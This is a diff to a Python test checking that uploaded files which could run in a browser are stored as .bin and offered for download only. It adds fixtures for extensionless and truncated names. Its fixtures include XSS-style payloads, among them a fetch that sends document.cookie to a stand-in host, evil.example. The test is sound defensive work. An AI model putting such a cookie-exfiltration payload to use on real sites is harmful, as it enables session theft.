@@ -148,6 +148,10 @@ def test_files_that_could_run_in_a_browser_are_linked_for_download_only(
         "report.html": b"<html><script>alert(document.cookie)</script></html>",
         "Chart.SVG": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
         "tool.mjs": b"fetch('https://evil.example/?c=' + document.cookie)",
+        # No extension: a browser would sniff the markup; a long name cut short loses its own.
+        "notes": b"<html><script>alert(2)</script></html>",
+        "x" * 90
+        + ".xhtml": b"<html xmlns='http://www.w3.org/1999/xhtml'><script>1</script></html>",
     }
     with filled.session_scope() as session:
         for name, content in active.items():
@@ -165,7 +169,7 @@ def test_files_that_could_run_in_a_browser_are_linked_for_download_only(
     rows = {r["file_name"]: r for r in csv_rows(archive, "evidence.csv")}
     evidence_page = archive.read("evidence.html").decode()
     for name, content in active.items():
-        (path,) = [p for p in stored if p.lower().endswith(name.lower() + ".bin")]
+        (path,) = [p for p in stored if p.endswith(".bin") and archive.read(p) == content]
         # Only the name changes: the bytes and the SHA-256 the ledger states are the ones handed in.
         assert archive.read(path) == content
         assert hashlib.sha256(archive.read(path)).hexdigest() == rows[name]["file_sha256"]
